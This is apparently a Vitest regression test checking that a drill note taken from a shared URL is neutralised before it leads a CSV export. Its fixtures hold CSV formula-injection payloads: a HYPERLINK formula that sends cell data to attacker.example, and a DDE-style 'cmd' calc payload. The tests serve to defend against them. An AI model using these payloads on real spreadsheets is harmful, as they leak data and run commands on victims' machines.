import { describe, expect, it } from 'vitest';
import { parseView } from '../../src/app/view/view-url';
import { buildExport } from '../../src/export/export-file';

/**
 * Regression (issue 13, class 13): a drill's note is taken from the URL (`dn=`), and a shared
 * link can say anything there. It went into the CSV export's first line as it was: a note
 * `=HYPERLINK(...)` opened in a spreadsheet as a live formula, while every cell below it was
 * neutralised. Everything from the URL that reaches an export goes through the one neutraliser.
 */
describe('a drill note taken from the URL reached the CSV export unneutralised', () => {
  const FORMULA = '=HYPERLINK("https://attacker.example/?d="&B3,"Click for details")';
  const noParquet = () => new Uint8Array();

  it('the note from a crafted link leads the CSV as text, quoted like a cell', async () => {
    const view = parseView(`?page=signals&drill=abuse&dw.rule=bracketing&dt=x&dn=${encodeURIComponent(FORMULA)}`);
    expect(view.drill?.note).toBe(FORMULA);
    const file = await buildExport('csv', [{ customer_id: '+C1' }], ['customer_id'], { parquetWriter: noParquet, note: view.drill!.note! });
    const lines = (file.parts as string[]).join('').split('\n');
    expect(lines[0]).toBe(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(lines.slice(1)).toEqual(['customer_id', "'+C1", '']);
  });

  it('every formula start is neutralised in the note, after line breaks are folded and blanks trimmed', async () => {
    for (const start of ['=', '+', '-', '@', '\t=', '\r\n@', ' \n=']) {
      const file = await buildExport('csv', [], ['a'], { parquetWriter: noParquet, note: `${start}cmd|' /C calc'!A0` });
      const first = (file.parts[0] as string).split('\n')[0]!;
      expect(first, JSON.stringify(start)).toMatch(/^"'[=+\-@]cmd/);
    }
  });

  it('a plain note and no note stay as they were', async () => {
    const plain = await buildExport('csv', [], ['a'], { parquetWriter: noParquet, note: 'Customer ids are personal data, say "hi"' });
    expect((plain.parts as string[]).join('')).toBe('"Customer ids are personal data, say ""hi"""\na\n');
    const none = await buildExport('csv', [], ['a'], { parquetWriter: noParquet });
    expect((none.parts as string[]).join('')).toBe('a\n');
  });
});
